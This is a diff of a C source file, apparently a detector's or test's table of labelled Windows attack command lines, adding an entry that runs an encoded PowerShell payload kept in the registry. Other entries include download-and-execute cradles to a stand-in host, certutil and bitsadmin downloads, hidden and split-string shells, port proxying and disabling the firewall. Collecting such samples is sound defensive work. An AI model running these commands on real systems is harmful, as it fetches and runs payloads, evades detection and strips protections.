@@ -52,6 +52,7 @@ static const struct { const char *looks, *text; } said[] = {
     { "encoded", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A" }, { "encoded", "PowerShell.exe –EncodedCommand \"SQBFAFgAIAAoAE4AZQB3AC0A\"" },
     { "download-run", "powershell iex (new-object net.webclient).downloadstring('http://203.0.113.1/a')" },
     { "download", "certutil.exe -urlcache -split -f http://203.0.113.1/a.exe c:\\a.exe" }, { "download", "bitsadmin /transfer x http://203.0.113.1/a c:\\a" },
+    { "encoded-kept", "powershell -ep bypass -c \"$x=(Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows' Debug).Debug; powershell -Win Hidden -enc $x\"" },
     { "hidden-shell", "powershell -w hidden -c x" }, { "split-shell", "cmd /c \"set A=power& call %A%shell -ep bypass\"" },
     { "portproxy", "netsh interface portproxy add v4tov4 listenport=65533 connectaddress=1.1.1.1 connectport=53" },
     { "firewall-open", "netsh.exe firewall add portopening tcp 65533 DNSd" }, { "firewall-off", "netsh advfirewall set allprofiles state off" },
